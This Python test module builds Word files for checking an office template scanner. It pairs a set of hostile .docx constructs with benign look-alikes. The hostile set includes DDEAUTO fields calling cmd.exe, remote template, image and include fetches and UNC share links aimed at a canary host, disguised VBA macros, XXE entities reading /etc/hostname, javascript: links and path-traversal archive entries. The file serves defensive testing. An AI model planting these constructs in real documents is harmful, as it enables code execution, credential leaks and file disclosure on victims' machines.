"""Word files that an office might hand in: each hostile one with a canary in it, and beside them sound ones of the same kinds."""

import io
import struct
import zipfile
import zlib

from tests.office_template.word_file import R, docx, p, part, r, zipped

CANARY = "https://canary.invalid/seen"
UNC = r"\\canary.invalid\seen"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_OWN = (
    ("styles", "styles.xml"),
    ("settings", "settings.xml"),
    ("numbering", "numbering.xml"),
    ("fontTable", "fontTable.xml"),
)


def png() -> bytes:
    """Return a picture of four points."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    points = zlib.compress(b"\0\xff\0\0\xff\0\0" * 2)
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def relation(kind: str, target: str, mode: str = "", name: str = "rIdX") -> str:
    """Return one pointer of a part; a kind with a slash is written in full."""
    full = kind if "/" in kind else _BASE + kind
    return (
        f'<Relationship Id="{name}" Type="{full}" Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'.replace(
            "'", '"'
        )
    )


def relations(*rows: str, own: bool = True) -> str:
    """Return the pointers of a part; of the body, those that it has anyway come first."""
    kept = [relation(kind, target, name=f"rId{number}") for number, (kind, target) in enumerate(_OWN)] if own else []
    return f'<Relationships xmlns="{RELATIONS}">{"".join([*kept, *rows])}</Relationships>'


def pointing(kind: str, target: str, mode: str = "", body: str = p("a"), **parts: str | bytes) -> bytes:
    """Return a file whose body points to something."""
    return docx(body, **{"word/_rels/document.xml.rels": relations(relation(kind, target, mode)), **parts})


def types(*extra: str) -> str:
    """Return the kinds of the parts, with some more."""
    from tests.office_template.word_file import SHIPPED

    with zipfile.ZipFile(SHIPPED) as archive:
        shipped = archive.read("[Content_Types].xml").decode()
    return shipped.replace("</Types>", "".join(extra) + "</Types>")


def field(*pieces: str, result: str = "1") -> str:
    """Return a field whose instruction stands in several runs."""
    inside = "".join(one if one.startswith("<w:") else instruction(one) for one in pieces)
    return f"{mark('begin')}{inside}{mark('separate')}{r(result)}{mark('end')}"


def instruction(code: str, tag: str = "instrText") -> str:
    return f'<w:r><w:{tag} xml:space="preserve">{code}</w:{tag}></w:r>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def settings(inner: str, *rows: str) -> bytes:
    made = {"word/settings.xml": part("settings", inner)}
    return docx(p("a"), **made, **{"word/_rels/settings.xml.rels": relations(*rows, own=False)})


def with_part(name: str, content: str | bytes) -> bytes:
    return docx(p("a"), **{name: content})


def packed_twice(name: str, content: bytes) -> bytes:
    target = io.BytesIO(docx(p("a")))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr(name, content)
    return target.getvalue()


def overlapping() -> bytes:
    """Return a file two of whose entries share their bytes."""
    data = bytearray(packed_twice("word/media/a.bin", b"x" * 9_000))
    first, last = data.find(b"PK\x01\x02"), data.rfind(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def anonymous_alternative(first: str, second: str) -> str:
    """Return two pieces of which Word takes one."""
    space = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    return (
        f'<w:r><mc:AlternateContent xmlns:mc="{space}"><mc:Choice Requires="w99" xmlns:w99="urn:none">{first}</mc:Choice>'
        f"<mc:Fallback>{second}</mc:Fallback></mc:AlternateContent></w:r>"
    )


def vml(inner: str) -> str:
    return (
        '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"{inner}</w:pict></w:r></w:p>"
    )


def drawing(blip: str) -> str:
    """Return a picture in the text."""
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="90000" cy="90000"/><wp:docPr id="1" name="Logo" descr="Logo"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Logo"/>'
        f"<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {blip}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def nested(depth: int) -> str:
    return part("styles", "<w:a>" * depth + "</w:a>" * depth)


_TO_THE_WEB = relations(relation("image", CANARY, "External"), own=False)
_DDE = f'DDEAUTO c:\\\\cmd.exe "{CANARY}"'
_PNG_TYPE = '<Default Extension="png" ContentType="image/png"/>'
_VBA_TYPE = '<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>'

HOSTILE: dict[str, bytes] = {
    # Fields
    "DDE in one run": docx(p(field(_DDE))),
    "DDE over three runs": docx(p(field("D", "DE", 'AUTO c:\\\\cmd.exe "/k"'))),
    "DDE with a comment inside": docx(p(field("DD<!-- -->EAUTO a b"))),
    "DDE as words of the instruction": docx(p(field(r("DDEAUTO a b")))),
    "DDE in a deleted run": docx(
        p(mark("begin"), instruction("DDEAUTO a b", "delInstrText"), mark("separate"), mark("end"))
    ),
    "DDE behind a mark that never ends": docx(p(mark("begin"), instruction("DDE a b"))),
    "DDE without any mark": docx(p(instruction(" DDEAUTO a b"))),
    "picture included": docx(p(field("INCLUDE", f'PICTURE "{CANARY}" \\d'))),
    "text included, inside another field": docx(p(field("IF 1 = 1 ", field("INCLUDETEXT ", '"/etc/hostname"'), " x"))),
    "instruction made by a field": docx(p(field(field('QUOTE "DDE"'), "AUTO a b"))),
    "instruction made by a tag": docx(p(field("{{ office.name }} a b"))),
    "instruction half under a condition": docx(p(field("PAGE ", "{%r if false %}", "DDEAUTO a b"))),
    "instruction in a tracked change": docx(
        p(field("PAGE ", '<w:ins w:id="1" w:author="A">' + instruction("DDEAUTO a b") + "</w:ins>"))
    ),
    "instruction of which Word takes the other half": docx(
        p(
            mark("begin"),
            anonymous_alternative("<w:instrText>PAGE </w:instrText>", "<w:instrText>DDEAUTO a b</w:instrText>"),
            mark("separate"),
            mark("end"),
        )
    ),
    "simple field": docx(p(f'<w:fldSimple w:instr="IMPORT &quot;{CANARY}&quot;"/>')),
    "field of a header": docx(
        p("a"), **{"word/header1.xml": part("hdr", p(field("LI", f"NK Word.Document {CANARY}")))}
    ),
    "field of a footnote": docx(p("a"), **{"word/footnotes.xml": part("footnotes", p(field(f"RD {CANARY}")))}),
    "field of a text box": docx(
        p(f"<w:r><w:pict><w:txbxContent>{p(field('DATABASE x'))}</w:txbxContent></w:pict></w:r>")
    ),
    "field that runs a macro": docx(p(field("MACROBUTTON Evil click"))),
    "field that goes elsewhere": docx(p(field("GOTOBUTTON x y"))),
    "field of a control": docx(p(field("HTMLACTIVEX x"))),
    "field that asks the reader": docx(p(field('FILLIN "Your password"'))),
    "field of no known name": docx(p(field("FROBNICATE x"))),
    "link of a field to a file": docx(p(field('HYPERLINK "file:///etc/hostname"'))),
    "link of a field to a share": docx(p(field(f'HYPERLINK "{UNC}"'))),
    "link of a field behind a place": docx(p(field('HYPERLINK \\l "a" "smb://canary.invalid/"'))),
    "link of a field made by a tag": docx(p(field('HYPERLINK "{{ office.name }}"'))),
    "strict dialect, field": with_part(
        "word/footer9.xml",
        f'<w:ftr xmlns:w="{STRICT}"><w:p><w:r><w:instrText>DDEAUTO a</w:instrText></w:r></w:p></w:ftr>',
    ),
    # What a part points to
    "picture from the web": pointing("image", CANARY, "External"),
    "picture from the web, mode in capitals": pointing("image", CANARY, "EXTERNAL"),
    "picture from the web without a mode": pointing("image", CANARY),
    "picture from a share": pointing("image", UNC.replace("\\", "\\\\"), "External"),
    "picture of the id of a link": pointing("hyperlink", CANARY, "External", body=drawing('r:embed="rIdX"')),
    "picture linked, not embedded": pointing(
        "image", "media/a.png", body=drawing('r:link="rIdX"'), **{"word/media/a.png": png()}
    ),
    "strict dialect, picture from the web": pointing(
        "http://purl.oclc.org/ooxml/officeDocument/relationships/image", CANARY, "External"
    ),
    "template attached": settings(
        '<w:attachedTemplate r:id="rIdX"/>', relation("attachedTemplate", CANARY, "External")
    ),
    "document inside": pointing("aFChunk", "a.htm", body='<w:altChunk r:id="rIdX"/>', **{"word/a.htm": "<html/>"}),
    "document below": pointing("subDocument", CANARY, "External"),
    "object": pointing("oleObject", "embeddings/a.bin", **{"word/embeddings/a.bin": b"a"}),
    "workbook": pointing("package", "embeddings/a.xlsx"),
    "control": pointing("control", "activeX/a.xml"),
    "film": pointing("video", CANARY, "External"),
    "page in a frame": pointing("frame", CANARY, "External"),
    "source of a mail merge": settings(
        "<w:mailMerge><w:query w:val='x'/></w:mailMerge>",
        relation("mailMergeSource", "file:///etc/hostname", "External"),
    ),
    "mail merge alone": settings('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'),
    "style sheet to save by": settings('<w:saveThroughXslt r:id="rIdX"/>', relation("transform", CANARY, "External")),
    "macros": pointing("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.png"),
    "macros under another name": docx(
        p("a"),
        **{
            "word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"a" * 90,
            "[Content_Types].xml": types(_PNG_TYPE),
        },
    ),
    "macros by their kind": docx(p("a"), **{"word/media/a.png": png(), "[Content_Types].xml": types(_VBA_TYPE)}),
    "keys bound to macros": pointing(
        "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "customizations.xml"
    ),
    "ribbon": docx(
        p("a"),
        **{
            "_rels/.rels": relations(
                relation("officeDocument", "word/document.xml", name="rId1"),
                relation(
                    "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "a/b.xml", name="rId2"
                ),
                own=False,
            ),
            "a/b.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>',
        },
    ),
    "add-in": pointing("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a.xml"),
    "data from elsewhere": docx(
        p("a"),
        **{
            "customXml/item1.xml": "<a/>",
            "customXml/_rels/item1.xml.rels": _TO_THE_WEB,
        },
    ),
    "settings of a printer": settings("", relation("printerSettings", "a.bin")),
    "archive inside": with_part("word/media/a.png", zipped({"a": "a"})),
    "target outside": pointing("image", "../../../etc/hostname"),
    "target outside, signs in code": pointing("image", "%2e%2e/%2e%2e/%2e%2e/etc/hostname"),
    "link to a file": pointing("hyperlink", "file:///etc/hostname", "External"),
    "link to a share": pointing("hyperlink", UNC, "External"),
    "link to a script": pointing("hyperlink", "javascript:alert(1)", "External"),
    "link to a program": pointing("hyperlink", f"ms-word:ofe|u|{CANARY}", "External"),
    # Markup
    "object without a pointer": docx(
        p('<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object></w:r>')
    ),
    "older picture by its address": docx(vml(f'<v:shape><v:imagedata src="{CANARY}"/></v:shape>')),
    "older picture by its source": docx(vml(f'<v:shape><v:imagedata o:href="{CANARY}"/></v:shape>')),
    "older fill by its address": docx(vml(f'<v:shape><v:fill src="{UNC}"/></v:shape>')),
    "older shape that leads to a file": docx(vml('<v:shape href="file:///etc/hostname"/>')),
    "frames": with_part("word/webSettings.xml", part("webSettings", "<w:frameset><w:frame/></w:frameset>")),
    "film of the web": docx(p(f'<w:r><wp15:webVideoPr xmlns:wp15="urn:a" embeddedHtml="{CANARY}"/></w:r>')),
    "macro of a form": docx(p('<w:r><w:ffData><w:entryMacro w:val="Evil"/></w:ffData></w:r>')),
    "drawing in SVG that fetches": with_part(
        "word/media/a.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{CANARY}"/></svg>'
    ),
    "drawing in SVG with a script": with_part(
        "word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>a</script></svg>'
    ),
    "XInclude": with_part(
        "customXml/item1.xml",
        '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/hostname" parse="text"/></a>',
    ),
    "word of another program": docx(
        p("a"), **{"word/styles.xml": f'<?mso-application progid="a"?>{part("styles", "")}'}
    ),
    "entities in UTF-32": with_part(
        "word/styles.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'.encode("utf-32")
    ),
    "entities in UTF-7": with_part(
        "word/styles.xml",
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a +AFsAPA-!ENTITY b +ACI-x+ACIAPgBdAD4-<a>b</a>',
    ),
    "nested too deep": with_part("word/styles.xml", nested(230)),
    "attribute too long": with_part("word/styles.xml", part("styles", f'<w:a w:b="{"b" * 1_100_000}"/>')),
    # The archive
    "entries over one another": overlapping(),
    "name that differs in capitals": packed_twice("word/Document.xml", b"<a/>"),
    "name with a backslash": packed_twice("word\\media\\a.png", png()),
    "name in code that leads outside": packed_twice("word/%2e%2e/%2e%2e/a.xml", b"<a/>"),
    "name in code of another part": packed_twice("word/docum%65nt.xml", b"<a/>"),
    "words before the archive": b"#!/bin/sh\n" + docx(p("a")),
    "very many tags": with_part("word/styles.xml", part("styles", "<w:a/>" * 600_000)),
}

_NAME = p("Dear {{ applicant.family_name }}")
_LINKED = p('<w:hyperlink r:id="rIdX">' + r("Link") + "</w:hyperlink>")
_FONT_TYPE = "application/vnd.openxmlformats-officedocument.obfuscatedFont"
_VML_LOGO = vml('<v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdX" o:title="Logo"/></v:shape>').replace(
    "<w:pict ", f'<w:pict xmlns:r="{R}" '
)
SOUND: dict[str, bytes] = {
    "plain": docx(_NAME),
    "picture": pointing(
        "image",
        "media/logo.png",
        body=drawing('r:embed="rIdX"') + _NAME,
        **{"word/media/logo.png": png(), "[Content_Types].xml": types(_PNG_TYPE)},
    ),
    "older picture": pointing(
        "image",
        "media/logo.png",
        body=_VML_LOGO + _NAME,
        **{"word/media/logo.png": png(), "[Content_Types].xml": types(_PNG_TYPE)},
    ),
    "link to write to": pointing(
        "hyperlink",
        "mailto:office@example.gc.ca",
        "External",
        body=_LINKED + _NAME,
    ),
    "link to a page": pointing(
        "hyperlink",
        "https://www.canada.ca/en.html",
        "External",
        body=_LINKED + _NAME,
    ),
    "pages over several runs": docx(
        _NAME + p("Page ", field("PA", "GE", " \\* MERGEFORMAT"), " of ", field(" NUM", "PAGES "))
    ),
    "link of a field to a page": docx(
        _NAME + p(field('HYPERLINK "https://www.canada.ca" \\o "Canada"', result="Canada"))
    ),
    "link of a field to a place": docx(_NAME + p(field('HYPERLINK \\l "Top"', result="Top"))),
    "name of a style": docx(_NAME + p(field(' STYLEREF "Heading 1" '))),
    "data of a document system": with_part(
        "customXml/item1.xml", '<?mso-contentType?><FormTemplates xmlns="urn:a"><Display src="a"/></FormTemplates>'
    ),
    "font that is embedded": docx(
        _NAME,
        **{
            "word/fonts/font1.odttf": bytes(range(255, 0, -1)) * 9,
            "word/_rels/fontTable.xml.rels": relations(relation("font", "fonts/font1.odttf"), own=False),
            "[Content_Types].xml": types(
                '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
            ),
        },
    ),
    "two forms of one drawing": docx(
        _NAME
        + p(
            anonymous_alternative("<w:t>A</w:t>", "<w:t>A</w:t>")
            .replace("urn:none", "http://schemas.microsoft.com/office/word/2010/wordprocessingShape")
            .replace("w99", "wps")
        )
    ),
    "part in UTF-16": docx(_NAME, **{"word/webSettings.xml": part("webSettings", "").encode("utf-16")}),
}
